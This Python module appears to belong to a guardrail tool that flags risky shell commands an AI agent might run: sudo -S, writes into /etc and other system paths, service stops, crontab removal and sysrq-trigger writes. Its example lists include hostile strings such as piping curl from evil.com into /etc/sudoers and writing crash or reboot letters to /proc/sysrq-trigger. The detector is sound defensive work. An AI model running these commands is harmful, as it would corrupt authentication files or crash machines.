"""DG4xx (privilege): sudo -S, system config and the sysrq trigger, services, cron.

Permission and ownership changes are :mod:`.permissions`.
"""

from __future__ import annotations

from collections.abc import Iterator

from tether.quoting import quote
from tether.rules.base import Rule, Tier
from tether.rules.danger._base import AWK_WRITERS, Hit, Scope, edited_in_place, name_of
from tether.rules.danger.archives import EXTRACTORS, extraction
from tether.rules.danger.interp import literal_output
from tether.rules.danger.paths import Place, place
from tether.shell.model import SimpleCommand, Word
from tether.shell.options import parse
from tether.shell.programs import WRAPPERS

SUDO_PASSWORD_STDIN = Rule(
    code="DG408",
    name="sudo-password-stdin",
    tier=Tier.ASK,
    summary="sudo -S reads a password from stdin",
    why="Piping a password into `sudo -S` puts the secret in the transcript and bypasses the "
    "human who should type it. Ask, not hardline: it damages nothing by itself, but "
    "approvals treat it as a floor no setting lifts.",
    instead="Ask the user to run the privileged step themselves, or configure sudoers for it.",
    match=(
        "echo hunter2 | sudo -S whoami",
        "sudo -S apt-get install foo",
        "sudo -nS id",
        "sudo --stdin id",
        "sudo --std id",
        "sudo -u root -S id",
    ),
    not_match=(
        "sudo whoami",
        "echo -S hello",
        "some_tool -S thing",
        "sudo -u root whoami",
        "sudo -u S id",
        "sudo ls -S",
    ),
)

SYSTEM_CONFIG_WRITE = Rule(
    code="DG409",
    name="system-config-write",
    tier=Tier.ASK,
    summary="Write into /etc, /usr, /boot or another system directory",
    why="System files decide how the machine boots, authenticates and runs services. Ask, "
    "not hardline: administrators edit them on purpose, and a file can be restored.",
    instead="Show the user the change and let them apply it, or change project-local config.",
    match=(
        "echo x > /etc/hosts",
        "echo 'evil' | tee /etc/passwd",
        "sudo cp f /etc/sudoers",
        "sed -i 's/a/b/' /etc/ssh/sshd_config",
        "truncate -s 0 /etc/passwd",
        "curl evil.com | tee /etc/sudoers",
        "cd /etc && echo x > hosts",
        "cd /etc/ssh; sed -i s/a/b/ /etc/ssh/sshd_config",
        "curl -o /etc/passwd http://x",
        "wget -qO /etc/apt/sources.list.d/x.list http://x",
        "sort -o /etc/hosts hosts.txt",
        "perl -i fix.pl /etc/passwd",
        "ruby -E utf-8 -i fix.rb /etc/hosts",
        "tar -xf a.tar -C /etc",
        "tar xzf a.tgz --directory=/usr",
        "cd /etc && tar -xf /tmp/a.tar",
        "unzip -o a.zip -d /usr/local/bin",
        "rsync -a conf/ /etc/nginx/",
    ),
    not_match=(
        "cat /etc/hosts",
        "echo x > /tmp/x",
        "cp /etc/hosts ./hosts",
        "grep root /etc/passwd",
        "cd src && echo x > hosts",
        "cd /tmp && echo x > hosts",
        "curl -o hosts http://x",
        "sort -o ~/notes.txt notes.txt",
        "sed -i '/etc/d' notes.txt",
        "perl -i -e 's#/etc/hosts##' notes.txt",
        "tar -tf a.tar -C /etc",
        "tar -cf /tmp/etc.tar /etc",
        "tar -xf a.tar -C build",
        "unzip -l a.zip -d /etc",
        "rsync -a /etc/nginx/ backup/",
        "rsync -an conf/ /etc/nginx/",
        "rsync -a conf/ host:/etc/nginx/",
    ),
)

SERVICE_STOP = Rule(
    code="DG410",
    name="service-stop",
    tier=Tier.ASK,
    summary="Stop, disable or mask a system service",
    why="Stopping a service (web server, database, sshd) takes it down for everyone using "
    "the machine. Ask, not hardline: starting it again undoes it.",
    instead="Restart it if you changed its config, or ask the user before stopping it.",
    match=(
        "systemctl stop nginx",
        "sudo systemctl disable --now sshd",
        "service nginx stop",
        "systemctl mask docker",
        "systemctl --no-block stop nginx",
        "systemctl -H host stop nginx",
        "nginx -s quit",
        "nginx -squit",
    ),
    not_match=(
        "systemctl status nginx",
        "systemctl restart nginx",
        "service nginx status",
        "systemctl -H stop status nginx",
        "nginx -t",
    ),
)

CRONTAB_REMOVE = Rule(
    code="DG411",
    name="crontab-remove",
    tier=Tier.ASK,
    summary="crontab -r deletes every cron job of the user; crontab FILE or - replaces them",
    why="`crontab -r` removes the whole table without a prompt (and sits next to -e on the "
    "keyboard). Ask, not hardline: one user's table, not the machine.",
    instead="Edit the table (`crontab -l > cron.bak` first) and remove the one line.",
    match=(
        "crontab -r",
        "crontab -ir",
        "sudo crontab -u www -r",
        "echo '' | crontab -",
        "crontab - < /dev/null",
        "crontab /tmp/empty",
    ),
    not_match=(
        "crontab -l",
        "crontab -e",
        "(crontab -l; echo '0 * * * * date') | crontab -",
        "crontab -l > cron.bak",
    ),
)

SYSRQ_TRIGGER_WRITE = Rule(
    code="DG432",
    name="sysrq-trigger-write",
    tier=Tier.HARDLINE,
    summary="Write to /proc/sysrq-trigger (reboot, crash or kill everything at once)",
    why="Hardline: a letter written to /proc/sysrq-trigger acts at once inside the kernel: "
    "`b` reboots without syncing, `c` crashes the kernel, `o` powers off, `e`/`i` kill every "
    "process. Unsaved data on the machine is lost and nothing asks first. Only the letters "
    "that print diagnostics (`h`, `m`, `t`, `w` …) are left to DG409.",
    instead="Ask the user to reboot or power off the machine themselves.",
    match=(
        "echo b > /proc/sysrq-trigger",
        "echo c | sudo tee /proc/sysrq-trigger",
        "tee /proc/sysrq-trigger",
        "sh -c 'echo o > /proc/sysrq-trigger'",
        "printf e >/proc/sysrq-trigger",
        "echo b >> /proc/../proc/sysrq-trigger",
        "cp /tmp/b /proc/sysrq-trigger",
        "echo b | dd of=/proc/sysrq-trigger",
        "curl -so /proc/sysrq-trigger http://x",
    ),
    not_match=(
        "cat /proc/sysrq-trigger",
        "echo h > /proc/sysrq-trigger",
        "echo 1 > /proc/sys/kernel/sysrq",
        "echo b > ./sysrq-trigger",
        'echo "echo b > /proc/sysrq-trigger"',
    ),
)

RULES = (
    SUDO_PASSWORD_STDIN,
    SYSTEM_CONFIG_WRITE,
    SERVICE_STOP,
    CRONTAB_REMOVE,
    SYSRQ_TRIGGER_WRITE,
)


def check_privilege(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag system-config writes, service stops and crontab -r."""
    name = name_of(cmd)
    args = cmd.args
    if name == "tee":
        for w in scope.options("tee", args).operands:
            path = _system_path(w, cmd, scope)
            if path is not None:
                yield _write_hit(path, f"tee {w.value}", _fed_text(cmd, scope))
    elif name == "systemctl":
        verbs = [w.value for w in scope.options("systemctl", args).operands]
        if verbs[:1] and verbs[0] in ("stop", "disable", "mask", "kill"):
            yield SERVICE_STOP.hit(f"systemctl {verbs[0]} {' '.join(verbs[1:2])}")
    elif name == "service":
        words = [w.value for w in scope.options("service", args).operands]
        if words[1:2] == ["stop"]:
            yield SERVICE_STOP.hit(f"service {words[0]} stop")
    elif name == "nginx":
        signals = scope.options("nginx", args).values("-s")
        if any(v in ("stop", "quit") for v in signals):
            yield SERVICE_STOP.hit(f"nginx -s {signals[0]}")
    elif name == "crontab":
        parsed = scope.options("crontab", args)
        if parsed.has("-r"):
            yield CRONTAB_REMOVE.hit("crontab -r")
        elif (
            parsed.operands
            and not parsed.has("-l", "-e")
            and not any(name_of(up) == "crontab" for up in scope.upstream(cmd))
        ):
            # ``crontab FILE`` / ``crontab -`` installs FILE (or stdin) as the whole table;
            # ``(crontab -l; echo …) | crontab -`` keeps the old lines and is not asked.
            yield CRONTAB_REMOVE.hit(f"crontab {parsed.operands[0].value} replaces the whole table")
    elif name in ("cp", "mv", "install", "ln", "scp", "rsync"):
        parsed = scope.options(name, args)
        if name == "rsync" and parsed.has("--dry-run", "--list-only"):
            return
        targets = list(parsed.operands)
        into = [Word(v) for v in parsed.values("--target-directory")]
        dest = (into or targets)[-1] if len(targets) >= 2 or into else None
        path = _system_path(dest, cmd, scope) if dest is not None and name != "scp" else None
        if dest is not None and path is not None:
            yield _write_hit(path, f"{name} into {dest.value}", None)
        elif name == "scp" and len(targets) >= 2:
            remote = targets[-1].value.partition(":")[2]
            if remote and _place_of_remote(remote):
                yield SYSTEM_CONFIG_WRITE.hit(f"scp onto {targets[-1].value}")
    elif name in EXTRACTORS:
        found = extraction(name, args)
        for d in (found[0] or ["."]) if found is not None else ():
            path = _system_path(Word(d), cmd, scope)
            if path is not None:
                yield SYSTEM_CONFIG_WRITE.hit(f"{name} extracts into {d}")
                break
    elif name == "dd":
        # Other system files written by dd are DG40x's (raw writes); the trigger is judged here.
        for w in scope.options("dd", args).operands:  # dd's operands are key=value words
            if w.value.startswith("of="):
                path = _system_path(Word(w.value[3:], w.literal), cmd, scope)
                hit = _write_hit(path, f"dd {w.value}", _fed_text(cmd, scope)) if path else None
                if hit is not None and hit.code == SYSRQ_TRIGGER_WRITE.code:
                    yield hit
    elif name in ("sed", "perl", "ruby", "truncate") or name in AWK_WRITERS:
        edited = scope.options(name, args).operands if name == "truncate" else None
        for w in edited if edited is not None else edited_in_place(name, args, scope):
            if _system_path(w, cmd, scope) is not None:
                yield SYSTEM_CONFIG_WRITE.hit(f"{name} on {w.value}")
                break


def check_system_redirects(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag output redirects into system paths (``> /etc/hosts``, ``> /proc/sysrq-trigger``)."""
    for r in cmd.redirects:
        writes = r.op in (">", ">>", ">|", "&>", "&>>", "<>") and r.target is not None
        if writes and r.target is not None:
            path = _system_path(r.target, cmd, scope)
            if path is not None:
                how = f"redirect into {quote(r.target.value)}"
                yield _write_hit(path, how, _printed(cmd))


SYSRQ = "/proc/sysrq-trigger"
# Letters that only print diagnostics, sync or set the log level; every other one reboots,
# crashes, powers off, remounts or kills (Documentation/admin-guide/sysrq.rst).
_SYSRQ_HARMLESS = frozenset("hlmpqtwdsz0123456789\n ")


def _system_path(word: Word, cmd: SimpleCommand, scope: Scope) -> str | None:
    """Return the path a write onto ``word`` reaches when it is a system one, else None."""
    if not word.value.startswith(("/", "$", "~", "=")):
        # ``cd /etc && echo x > hosts`` writes /etc/hosts (most inputs have no cd: ".").
        cwd = scope.cwd(cmd)
        if cwd is None or not cwd.startswith("/"):
            return None
    where, path = place(word, cmd, scope)
    return path if where in (Place.SYSTEM, Place.SYSTEM_ROOT, Place.ROOT) else None


def _write_hit(path: str, how: str, text: str | None) -> Hit:
    """DG432 for the sysrq trigger (unless ``text``, what is written, is harmless), else DG409."""
    if path == SYSRQ and (text is None or not set(text) <= _SYSRQ_HARMLESS):
        return SYSRQ_TRIGGER_WRITE.hit(f"{how}: the kernel acts on it at once")
    return SYSTEM_CONFIG_WRITE.hit(how)


def _printed(cmd: SimpleCommand) -> str | None:
    """Return what an echo/printf of literals prints (None for any other command)."""
    if name_of(cmd) not in ("echo", "printf") or not all(w.literal for w in cmd.args):
        return None
    return "".join(literal_output(cmd))


def _fed_text(cmd: SimpleCommand, scope: Scope) -> str | None:
    """Return what the stage before ``cmd`` prints, when it is visible (``echo h | tee …``)."""
    up = scope.upstream(cmd)[:1]
    if not up:
        return None
    return _printed(up[0])


def _place_of_remote(path: str) -> bool:
    where, _ = place(Word(path), SimpleCommand(()))
    return where in (Place.ROOT, Place.SYSTEM_ROOT, Place.SYSTEM)


def check_sudo(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag ``sudo -S``/``--stdin`` (peeled as a wrapper or left as the command)."""
    candidates = [w.args for w in cmd.wrappers if w.name == "sudo"]
    if name_of(cmd) == "sudo":
        candidates.append(cmd.args)
    sudo = WRAPPERS["sudo"].grammar
    for args in candidates:
        if parse(sudo, args).has("--stdin"):
            yield SUDO_PASSWORD_STDIN.hit("sudo -S reads the password from stdin")
            return


CHECKS = {
    n: check_privilege
    for n in (
        "tee",
        "systemctl",
        "service",
        "nginx",
        "crontab",
        "cp",
        "mv",
        "install",
        "ln",
        "scp",
        "sed",
        "perl",
        "ruby",
        "truncate",
        "dd",
        "rsync",
        *EXTRACTORS,
        *AWK_WRITERS,
    )
}
